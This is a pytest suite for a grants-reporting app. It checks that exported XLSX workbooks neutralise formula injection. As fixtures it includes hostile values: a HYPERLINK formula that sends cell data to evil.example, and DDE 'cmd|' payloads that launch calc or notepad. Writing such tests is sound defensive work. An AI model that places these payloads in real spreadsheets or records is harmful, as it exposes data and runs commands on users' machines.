"""Text that a spreadsheet would run as a formula stays text in every workbook Northstar writes
(config.spreadsheets.spreadsheet_safe, used by reporting.hrsa.exporters.XlsxExporter)."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from config.spreadsheets import FORMULA_TRIGGERS, spreadsheet_safe
from grants.models import Proposal
from reporting import services as reporting
from reporting.hrsa.builder import build_report
from reporting.hrsa.exporters import XlsxExporter
from reporting.hrsa.tables import COUNT, MONEY, TEXT, Column, Report, Row, Table
from tests.reporting.support import simple_award

pytestmark = pytest.mark.django_db

PERIOD = "2025-2026"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open the report")'
HOSTILE_FIRST_NAME = "+cmd|' /C calc'!A0"
HOSTILE_DEPARTMENT = "-2+3+cmd|' /C notepad'!A0"
HOSTILE_NARRATIVE = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_LED = "\t=1+1"
CR_LED = "\r=1+1"


def workbook(data: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))


def string_cells(book) -> list[tuple[str, str, object]]:
    """(sheet, coordinate, value) of every text cell, with openpyxl's data type kept."""
    return [
        (sheet.title, cell.coordinate, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def dangerous(book) -> list:
    """Cells a spreadsheet would evaluate: formulas, or text starting like one."""
    return [
        (sheet, coordinate, value)
        for sheet, coordinate, value, data_type in string_cells(book)
        if data_type == "f" or value.startswith(FORMULA_TRIGGERS)
    ]


# ---- The helper ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("Promotoras = community health workers", "Promotoras = community health workers"),
        ("—", "—"),
        ("*", "*"),
        ("", ""),
        ("bell\x07 and escape\x1b", "bell and escape"),
        ("\x07=1+1", "'=1+1"),  # a control character cannot hide a formula
        ("line\nbreak", "line\nbreak"),
    ],
)
def test_spreadsheet_safe_neutralises_text(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        -5,
        -12.5,
        Decimal("-1500.00"),
        0,
        None,
        True,
        date(2025, 7, 1),
        datetime(2025, 7, 1, 9, tzinfo=UTC),
    ],
)
def test_spreadsheet_safe_leaves_numbers_dates_and_empty_cells_alone(value):
    assert spreadsheet_safe(value) is value


# ---- The HRSA workbook -----------------------------------------------------------------------


@pytest.fixture
def hostile_award():
    """An award whose title, PI and department, and the period's narrative, hold formulas —
    stored as any import or older version might have left them."""
    award, admin = simple_award(start=date(2025, 9, 1), end=date(2026, 6, 30))
    proposal = award.proposal
    Proposal.objects.filter(pk=proposal.pk).update(title=HOSTILE_TITLE + "\x07")
    User.objects.filter(pk=proposal.pi_id).update(first_name=HOSTILE_FIRST_NAME)
    proposal.pi.profile.department = HOSTILE_DEPARTMENT
    proposal.pi.profile.save(update_fields=["department"])
    reporting.narrative_save(
        period=PERIOD,
        actor=admin,
        objectives_accomplishments=HOSTILE_NARRATIVE,
        barriers_resolutions=TAB_LED,  # saved stripped: "=1+1"
    )
    return award, admin


def test_hrsa_workbook_has_no_cell_a_spreadsheet_would_evaluate(hostile_award):
    book = workbook(XlsxExporter(build_report(PERIOD)).render())

    values = {value for _, _, value, _ in string_cells(book)}
    assert dangerous(book) == []
    assert "'" + HOSTILE_TITLE in values  # the control character dropped, the text kept
    assert "'" + HOSTILE_DEPARTMENT in values
    assert "'" + HOSTILE_NARRATIVE in values
    assert "'=1+1" in values
    assert any(v.startswith("'" + HOSTILE_FIRST_NAME) for v in values)


def test_hrsa_workbook_downloaded_from_the_report_page_is_neutralised(hostile_award):
    _, admin = hostile_award
    client = Client()
    client.force_login(admin)

    response = client.get(
        reverse("reporting:report_export", args=["xlsx"]), {"period": PERIOD, "threshold": 10}
    )

    assert response.status_code == 200
    assert dangerous(workbook(response.content)) == []


def test_hrsa_workbook_keeps_numbers_numbers_and_neutralises_every_kind_of_text():
    table = Table(
        key="probe",
        code="Probe",
        title="Probe",
        columns=[Column("label", "Label"), Column("n", "N", COUNT), Column("usd", "$", MONEY)],
        rows=[
            Row(["=1+1", 3, Decimal("-12.50")]),
            Row(["-3", -3, Decimal("-0.01")]),
            Row([CR_LED, 0, Decimal("0")]),
            Row(["@A1", None, None]),
        ],
        notes=["=note()"],
    )
    column_label = Table(
        key="labels",
        code="Labels",
        title="=Title",
        columns=[Column("x", "+Header", TEXT)],
        rows=[Row(["plain"])],
    )
    report = Report(
        program="=Program",
        period_label=PERIOD,
        period_display="July 1, 2025 – June 30, 2026",
        generated_at=timezone.now(),
        generated_by="-admin",
        profile="COE",
        tables=[table, column_label],
        checks=[],
    )

    book = workbook(XlsxExporter(report).render())

    probe = book["Probe"]
    assert dangerous(book) == []
    assert [[c.value for c in row] for row in probe.iter_rows(min_row=5, max_row=8)] == [
        ["'=1+1", 3, -12.5],
        ["'-3", -3, -0.01],
        ["'\n=1+1", 0, 0],  # the XML of the file reads a carriage return back as \n
        ["'@A1", None, None],
    ]
    assert book["=Title"]["A4"].value == "'+Header"
    assert probe["A2"].value.startswith("'=Program")
